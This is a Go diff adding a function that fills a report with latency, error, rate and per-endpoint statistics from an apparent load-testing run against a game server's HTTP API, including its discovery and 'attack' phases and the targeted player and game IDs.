+// "discovery" and "attack" latencies appear; the prober's control endpoint
+// measurements before and during the attack go to their own sub-report.
+// Rates are measured over the attack, when there was one.
+func fillReport(rep *report.Report, cfg *Config) {
+	registry.Snapshot().Fill(&rep.Section)
+	if discoveryLatency.Count() == 0 {
+		delete(rep.Latencies, "discovery")
+	} else {
+		rep.Details["discovery_duration"] = discoveryTime.Round(time.Millisecond).String()
+	}
+	if n := discoveryNotJSON(); n > 0 {
+		rep.Counters["discovery_not_json"] = n
+	}
+	if n := gameDetail.notJSON(); n > 0 {
+		rep.Counters["attack_not_json"] = n
+	}
+	rep.SetErrors(gameDetail.failures.Snapshot())
+	if attackTime > 0 {
+		rep.Rates = report.DeriveRates(rep.Counters, rep.Errors, cfg.RateSpan(attackTime, guard))
+	}
+
+	for name, s := range map[string]*endpointStats{
+		"GET /api/v0/games":              gamesList,
+		"GET /api/v0/players/{id}/games": playerGames,
+		"GET /games/{id}":                gameDetail,
+	} {
+		if s.requests.Load() > 0 {
+			s.fill(rep.SubSection(name))
+		}
+	}
+	gamesListBy.fill(rep, "GET /api/v0/games")
+	playerGamesBy.fill(rep, "GET /api/v0/players/{id}/games")
+	gameDetailBy.fill(rep, "GET /games/{id}")
+
+	if control != nil {
+		control.fill(rep)
+	}
+	guard.Fill(rep)
+	workerPanics.Fill(rep)
+	if endedBy != "" {
+		rep.Details["ended_by"] = endedBy
+	}
+
+	if cfg.TargetPlayerID != "" {
+		rep.Details["target_player_id"] = cfg.TargetPlayerID
+	}
+	if targetGameID != "" {
+		rep.Details["target_game_id"] = targetGameID
+		rep.Details["target_source"] = targetSource
+	}
+	if discoveredVia != "" && cfg.BaseURL.Len() > 1 {
+		rep.Details["discovered_via"] = discoveredVia
+	}
+}